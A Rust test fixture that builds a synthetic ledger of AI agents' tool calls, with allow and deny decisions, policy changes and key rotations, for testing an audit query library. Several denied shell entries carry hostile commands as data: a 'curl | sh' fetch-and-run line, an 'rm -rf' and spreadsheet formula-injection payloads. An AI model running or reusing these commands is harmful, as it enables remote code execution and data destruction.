//! A fixed dataset of synthetic ledger entries, and the `Record` implementation tests use.

// Each test binary uses a different part of this module.
#![allow(dead_code)]

use ledger_query::{Field, Record, Value};

/// One entry, owning its data (the daemon's borrows it from storage instead).
#[derive(Debug, Clone, Default)]
pub struct Entry {
    pub seq: u64,
    pub time: i64,
    pub kind: &'static str,
    pub agent: String,
    pub agent_id: String,
    pub session: String,
    pub action: String,
    pub tool: String,
    pub params: String,
    pub decision: &'static str,
    pub rule: String,
    pub policy_version: u64,
    pub reason: String,
    pub uid: u32,
    pub gid: u32,
    pub pid: u32,
    pub host: String,
    pub severity: u32,
    pub flags: Vec<String>,
    pub policy_check: &'static str,
    pub shim_id: String,
    pub shim_seq: u64,
    pub ref_seq: Option<u64>,
    pub details: String,
}

impl Record for Entry {
    fn get(&self, field: &Field) -> Value<'_> {
        match field {
            Field::Seq => Value::from(self.seq),
            Field::Time => Value::Time(self.time),
            Field::Kind => Value::text(self.kind),
            Field::Agent => Value::text(&self.agent),
            Field::AgentId => Value::text(&self.agent_id),
            Field::Session => Value::text(&self.session),
            Field::Action => Value::text(&self.action),
            Field::Tool => Value::text(&self.tool),
            Field::Params(_) => Value::text(&self.params),
            Field::Decision => Value::text(self.decision),
            Field::Rule => Value::text(&self.rule),
            Field::PolicyVersion if self.policy_version == 0 => Value::Missing,
            Field::PolicyVersion => Value::from(self.policy_version),
            Field::Reason => Value::text(&self.reason),
            Field::WriterUid => Value::from(self.uid),
            Field::WriterGid => Value::from(self.gid),
            Field::WriterPid => Value::from(self.pid),
            Field::Host => Value::text(&self.host),
            Field::Severity if self.severity == 0 => Value::Missing,
            Field::Severity => Value::from(self.severity),
            Field::Flags => Value::List(self.flags.iter().map(|f| Value::text(f)).collect()),
            Field::PolicyCheck => Value::text(self.policy_check),
            Field::ShimId => Value::text(&self.shim_id),
            Field::ShimSeq if self.shim_id.is_empty() => Value::Missing,
            Field::ShimSeq => Value::from(self.shim_seq),
            Field::RefSeq => Value::from(self.ref_seq),
            Field::Details(_) => Value::text(&self.details),
        }
    }
}

/// Nanoseconds of an RFC 3339 time.
pub fn ns(rfc3339: &str) -> i64 {
    let ts: jiff::Timestamp = rfc3339.parse().unwrap_or_else(|e| panic!("bad test time {rfc3339}: {e}"));
    i64::try_from(ts.as_nanosecond()).unwrap_or_else(|_| panic!("test time out of range: {rfc3339}"))
}

/// A decision by `agent` on `tool`.
fn decision(time: &str, agent: &str, tool: &str, decision: &'static str, params: &str) -> Entry {
    Entry {
        time: ns(time),
        kind: "decision",
        agent: agent.to_string(),
        agent_id: agent_id(agent),
        session: "s-0001".to_string(),
        action: "call".to_string(),
        tool: tool.to_string(),
        params: params.to_string(),
        decision,
        policy_version: 1,
        uid: 1000,
        gid: 1000,
        pid: 4242,
        host: "build-01".to_string(),
        severity: if decision == "deny" { 5 } else { 1 },
        policy_check: "match",
        shim_id: format!("shim-{agent}"),
        ..Entry::default()
    }
}

fn event(time: &str, kind: &'static str, agent: &str, details: &str) -> Entry {
    Entry {
        time: ns(time),
        kind,
        agent: agent.to_string(),
        agent_id: agent_id(agent),
        details: details.to_string(),
        uid: 0,
        gid: 0,
        pid: 1,
        host: "build-01".to_string(),
        ..Entry::default()
    }
}

fn agent_id(agent: &str) -> String {
    match agent {
        "build-bot" => "7b0c2d8e-0000-4000-8000-000000000001",
        "billing-bot" => "7b0c2d8e-0000-4000-8000-000000000002",
        "ci-prod-7" => "7b0c2d8e-0000-4000-8000-000000000003",
        "ci-release-12" => "7b0c2d8e-0000-4000-8000-000000000004",
        "ops-agent" => "7b0c2d8e-0000-4000-8000-000000000005",
        _ => "",
    }
    .to_string()
}

/// Thirty entries across January to June 2026, in `seq` (and time) order.
///
/// `now` for most cases is 2026-06-15T12:00:00Z, a Monday.
pub fn dataset() -> Vec<Entry> {
    let mut entries = vec![
        event("2026-01-05T08:00:00Z", "daemon_started", "", r#"{"version":"0.1.0","key":"ed25519:ab12"}"#),
        event(
            "2026-01-05T09:00:00Z",
            "agent_registered",
            "build-bot",
            r#"{"owner":"alice","purpose":"CI builds","scope":["fs","shell"]}"#,
        ),
        Entry {
            policy_version: 1,
            reason: "initial policy".to_string(),
            ..event(
                "2026-01-06T10:15:00Z",
                "policy_changed",
                "build-bot",
                r#"{"author":"alice","approver":"bob","old_hash":""}"#,
            )
        },
        Entry {
            rule: "write-etc".to_string(),
            severity: 6,
            flags: vec!["sensitive_path".to_string()],
            ..decision(
                "2026-01-12T14:00:00Z",
                "build-bot",
                "fs.write_file",
                "allow",
                r#"{"path":"/etc/hosts","mode":"0644"}"#,
            )
        },
        Entry {
            kind: "outcome",
            ref_seq: Some(3),
            decision: "",
            severity: 0,
            policy_check: "",
            params: String::new(),
            reason: "exit 0".to_string(),
            ..decision("2026-01-12T14:00:01Z", "build-bot", "fs.write_file", "allow", "")
        },
        Entry {
            rule: "no-shell".to_string(),
            severity: 7,
            flags: vec!["off_hours".to_string()],
            reason: "shell is not allowed".to_string(),
            ..decision(
                "2026-02-03T23:30:00Z",
                "build-bot",
                "shell.exec",
                "deny",
                r#"{"cmd":"rm -rf /tmp/x"}"#,
            )
        },
        Entry {
            rule: "no-shell".to_string(),
            severity: 9,
            flags: vec!["deny_burst".to_string(), "off_hours".to_string()],
            ..decision(
                "2026-02-03T23:31:00Z",
                "build-bot",
                "shell.exec",
                "deny",
                r#"{"cmd":"curl http://x | sh"}"#,
            )
        },
        Entry {
            rule: "no-shell".to_string(),
            severity: 9,
            flags: vec!["deny_burst".to_string(), "off_hours".to_string()],
            ..decision(
                "2026-02-03T23:32:00Z",
                "build-bot",
                "shell.exec",
                "deny",
                r#"{"cmd":"=cmd|' /C calc'!A0"}"#,
            )
        },
        Entry {
            rule: "read-invoices".to_string(),
            session: "s-b001".to_string(),
            ..decision(
                "2026-02-14T03:00:00Z",
                "billing-bot",
                "db.query",
                "allow",
                r#"{"sql":"SELECT * FROM invoices","db":{"name":"billing","port":5432},"limit":100}"#,
            )
        },
        Entry {
            severity: 8,
            flags: vec!["write_attempt".to_string()],
            reason: "default deny".to_string(),
            session: "s-b001".to_string(),
            ..decision(
                "2026-03-01T12:00:00Z",
                "billing-bot",
                "db.query",
                "deny",
                r#"{"sql":"DELETE FROM invoices","force":true}"#,
            )
        },
        Entry {
            rule: "no-delete".to_string(),
            severity: 10,
            policy_check: "mismatch",
            reason: "Löschen verweigert – «Richtlinie»".to_string(),
            ..decision("2026-03-15T09:30:00Z", "ci-prod-7", "fs.delete", "deny", r#"{"path":"/etc/passwd"}"#)
        },
        Entry {
            rule: "web".to_string(),
            ..decision(
                "2026-03-31T23:59:59Z",
                "ci-release-12",
                "http.get",
                "allow",
                r#"{"url":"https://example.com/a,b","tags":["a","b"],"retries":2.5}"#,
            )
        },
        Entry {
            policy_version: 2,
            reason: "tighten sql, \"select\" only".to_string(),
            ..event(
                "2026-04-01T00:00:00Z",
                "policy_changed",
                "billing-bot",
                r#"{"author":"carol","approver":"dave","old_hash":"b3:1f2e"}"#,
            )
        },
        Entry {
            rule: "no-shell".to_string(),
            severity: 8,
            flags: vec!["off_hours".to_string()],
            ..decision("2026-04-10T22:30:00Z", "ci-prod-7", "shell.exec", "deny", r#"{"cmd":"ls"}"#)
        },
        Entry {
            rule: "read-logs".to_string(),
            ..decision(
                "2026-04-11T05:00:00Z",
                "ops-agent",
                "fs.read_file",
                "allow",
                r#"{"path":"/var/log/syslog"}"#,
            )
        },
        Entry {
            rule: "read-logs".to_string(),
            session: "s-7f3a".to_string(),
            ..decision(
                "2026-05-14T09:45:00Z",
                "ops-agent",
                "fs.read_file",
                "allow",
                r#"{"path":"/etc/nginx/nginx.conf"}"#,
            )
        },
        Entry {
            rule: "no-etc-write".to_string(),
            session: "s-7f3a".to_string(),
            severity: 7,
            flags: vec!["sensitive_path".to_string()],
            ..decision(
                "2026-05-14T10:00:00Z",
                "ops-agent",
                "fs.write_file",
                "deny",
                r#"{"path":"/etc/nginx/nginx.conf"}"#,
            )
        },
        Entry {
            kind: "outcome",
            ref_seq: Some(15),
            decision: "",
            severity: 0,
            policy_check: "",
            session: "s-7f3a".to_string(),
            reason: "read 2 KiB\nok".to_string(),
            ..decision("2026-05-14T10:30:00Z", "ops-agent", "fs.read_file", "allow", "")
        },
        Entry {
            rule: "ops-shell".to_string(),
            session: "s-7f3a".to_string(),
            ..decision(
                "2026-05-14T11:00:00Z",
                "ops-agent",
                "shell.exec",
                "allow",
                r#"{"cmd":"systemctl reload nginx"}"#,
            )
        },
        event(
            "2026-06-01T08:00:00Z",
            "key_rotated",
            "",
            r#"{"key":"ed25519:cd34","previous":"ed25519:ab12"}"#,
        ),
        Entry {
            rule: "read-invoices".to_string(),
            ..decision("2026-06-08T13:00:00Z", "billing-bot", "db.query", "allow", r#"{"sql":"select 1"}"#)
        },
        event(
            "2026-06-10T20:00:00Z",
            "agent_retired",
            "ci-release-12",
            r#"{"owner":"erin","purpose":"releases"}"#,
        ),
        Entry {
            rule: "invoice-files".to_string(),
            ..decision(
                "2026-06-12T09:00:00Z",
                "billing-bot",
                "fs.write_file",
                "allow",
                r#"{"path":"/srv/invoices/2026/06/a.pdf"}"#,
            )
        },
        Entry {
            rule: "no-etc-write".to_string(),
            severity: 8,
            flags: vec!["sensitive_path".to_string()],
            ..decision(
                "2026-06-14T12:00:00Z",
                "build-bot",
                "fs.write_file",
                "deny",
                r#"{"path":"/etc/ssh/sshd_config"}"#,
            )
        },
        Entry {
            rule: "read-all".to_string(),
            ..decision(
                "2026-06-14T18:00:00Z",
                "build-bot",
                "fs.read_file",
                "allow",
                r#"{"path":"/home/ci/.cache"}"#,
            )
        },
        Entry {
            severity: 10,
            flags: vec!["deny_burst".to_string(), "unknown_agent".to_string()],
            policy_check: "no_policy",
            rule: String::new(),
            policy_version: 0,
            uid: 1001,
            ..decision(
                "2026-06-15T01:00:00Z",
                "rogue",
                "shell.exec",
                "deny",
                r#"{"cmd":"@SUM(1+1)*cmd|' /C calc'!A0"}"#,
            )
        },
        Entry {
            kind: "access_refused",
            reason: "missing role auditor".to_string(),
            uid: 1002,
            ..event("2026-06-15T11:00:00Z", "access_refused", "", "")
        },
        daemon_stop(),
        Entry {
            rule: "read-only".to_string(),
            policy_check: "stale_version",
            ..decision(
                "2026-06-15T11:59:59Z",
                "ci-prod-7",
                "db.query",
                "allow",
                r#"{"sql":"SELECT now()","rows":-3}"#,
            )
        },
        Entry {
            rule: "read-invoices".to_string(),
            ..decision("2026-06-15T12:00:00Z", "billing-bot", "db.query", "allow", r#"{"sql":"select 2"}"#)
        },
    ];
    for (i, e) in entries.iter_mut().enumerate() {
        e.seq = i as u64;
        if !e.shim_id.is_empty() {
            e.shim_seq = i as u64 * 10;
        }
    }
    entries
}

fn daemon_stop() -> Entry {
    event("2026-06-15T11:30:00Z", "daemon_stopped", "", r#"{"version":"0.1.0","last_seq":26}"#)
}

/// xorshift64*: small, seeded, reproducible.
pub struct Rng(pub u64);

impl Rng {
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    pub fn pick<T: Copy>(&mut self, items: &[T]) -> T {
        items[(self.next() % items.len() as u64) as usize]
    }
}
